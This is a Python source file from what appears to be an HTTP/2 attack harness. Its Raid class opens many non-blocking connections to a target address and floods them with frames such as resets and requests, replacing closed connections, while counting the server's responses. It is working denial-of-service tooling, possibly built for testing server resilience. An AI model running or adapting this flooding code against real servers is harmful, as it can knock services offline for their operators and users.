"""The attacker's connections: many sockets of one process, without threads."""

from __future__ import annotations

import selectors
import socket
import time
from dataclasses import dataclass, field
from functools import cached_property
from typing import TYPE_CHECKING

from attack import http2

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

_READ_BYTES = 1 << 16
_TURN_S = 0.05
_CONNECT_TIMEOUT_S = 5.0
_WINDOW = 65_535


@dataclass
class Counts:
    """What an attack did, and how the server answered."""

    sent: int = 0
    """Bytes that the server's kernel took."""
    actions: int = 0
    """What the attack counts: resets, frames, connections or requests."""
    opened: int = 0
    closed: int = 0
    """Connections that the server ended, with GOAWAY or by closing them."""
    refused: int = 0
    """Connections that could not be made."""
    answered: int = 0
    """Streams that the server ended, with trailers or a reset."""
    requests: int = 0
    """Requests that an engine is rightly asked for."""


@dataclass(eq=False)
class Raider:
    """One connection of the attacker."""

    socket: socket.socket
    pending: bytearray = field(default_factory=bytearray)
    frames: http2.Frames = field(default_factory=http2.Frames)
    last_stream: int = -1
    window: int = _WINDOW
    """Bytes of DATA that the connection's flow control still allows."""
    said_goodbye: bool = False

    def next_stream(self) -> int:
        """Returns the id of the connection's next stream."""
        self.last_stream += 2
        return self.last_stream


class Raid:
    """An attack on one address, which lasts for so many seconds."""

    def __init__(self, target: str, seconds: float) -> None:
        host, _, port = target.rpartition(":")
        self.address = (host, int(port))
        self.seconds = seconds
        self.counts = Counts()
        self.raiders: set[Raider] = set()
        self._selector = selectors.DefaultSelector()

    @cached_property
    def ends(self) -> float:
        """When the attack's time is up. It begins when this is first asked: after all preparations."""
        return time.monotonic() + self.seconds

    @property
    def over(self) -> bool:
        """Whether the attack's time is up."""
        return time.monotonic() >= self.ends

    def turns(self, every: float = _TURN_S) -> Iterator[None]:
        """Yields every so many seconds until the time is up. Reads and answers in between."""
        while not self.over:
            began = time.monotonic()
            yield
            while (left := min(began + every, self.ends) - time.monotonic()) > 0:
                self.wait(left)

    def connect(self, first: bytes = http2.PREFACE + http2.frame(http2.SETTINGS)) -> Raider | None:
        """Opens a connection and sends the first bytes. Returns None if it was refused."""
        try:
            plug = socket.create_connection(self.address, timeout=_CONNECT_TIMEOUT_S)
        except OSError:
            self.counts.refused += 1
            return None
        plug.setblocking(False)
        raider = Raider(plug)
        self.counts.opened += 1
        self.raiders.add(raider)
        self._selector.register(plug, selectors.EVENT_READ, raider)
        self.send(raider, first)
        return raider

    def keep(self, connections: int, first: bytes | None = None) -> list[Raider]:
        """Opens connections until there are so many. Returns the new ones."""
        made: list[Raider] = []
        while len(self.raiders) < connections and not self.over:
            raider = self.connect() if first is None else self.connect(first)
            if raider is None:
                self.wait(_TURN_S)
            else:
                made.append(raider)
        return made

    def send(self, raider: Raider, data: bytes) -> None:
        """Sends bytes as soon as the server's kernel takes them. Does nothing if the connection has ended."""
        if raider in self.raiders:
            raider.pending += data
            self._flush(raider)

    def wait(self, seconds: float) -> None:
        """Reads what the server sends and sends what is pending, once, waiting at most so long."""
        if not self.raiders:
            time.sleep(seconds)
            return
        for key, events in self._selector.select(seconds):
            raider = key.data
            if events & selectors.EVENT_WRITE:
                self._flush(raider)
            if events & selectors.EVENT_READ and raider in self.raiders:
                self._read(raider)

    def flood(self, connections: int, make: Callable[[Raider], tuple[bytes, int]]) -> None:
        """Sends the bytes that `make` returns with their number of actions, as fast as the server takes them.

        Connections that the server closes are replaced.
        """
        while not self.over:
            self.keep(connections)
            for raider in tuple(self.raiders):
                if raider in self.raiders and not raider.pending:
                    data, actions = make(raider)
                    self.counts.actions += actions
                    self.send(raider, data)
            self.wait(_TURN_S if all(raider.pending for raider in self.raiders) else 0)

    def drop(self, raider: Raider) -> None:
        """Closes a connection."""
        if raider in self.raiders:
            self.raiders.discard(raider)
            self._selector.unregister(raider.socket)
            raider.socket.close()

    def close(self) -> None:
        """Closes all connections."""
        for raider in tuple(self.raiders):
            self.drop(raider)
        self._selector.close()

    def _flush(self, raider: Raider) -> None:
        try:
            while raider.pending:
                count = raider.socket.send(raider.pending)
                self.counts.sent += count
                del raider.pending[:count]
        except BlockingIOError:
            pass
        except OSError:
            self._lost(raider)
            return
        writing = selectors.EVENT_WRITE if raider.pending else 0
        self._selector.modify(raider.socket, selectors.EVENT_READ | writing, raider)

    def _read(self, raider: Raider) -> None:
        try:
            data = raider.socket.recv(_READ_BYTES)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self._lost(raider)
            return
        for kind, flags, stream, payload in raider.frames.feed(data):
            self._take(raider, kind, flags, stream, payload)

    def _take(self, raider: Raider, kind: int, flags: int, stream: int, payload: bytes) -> None:
        """Counts a frame, and answers what a peer must answer to stay connected."""
        if kind == http2.RST_STREAM or (kind == http2.HEADERS and flags & http2.END_STREAM):
            self.counts.answered += 1
        elif kind == http2.GOAWAY and not raider.said_goodbye:
            raider.said_goodbye = True
            self.counts.closed += 1
        elif kind in {http2.SETTINGS, http2.PING} and not flags & http2.ACK:
            self.send(raider, http2.frame(kind, http2.ACK, 0, payload if kind == http2.PING else b""))
        elif kind == http2.WINDOW_UPDATE and stream == 0:
            raider.window += int.from_bytes(payload, "big")

    def _lost(self, raider: Raider) -> None:
        self.counts.closed += not raider.said_goodbye
        self.drop(raider)
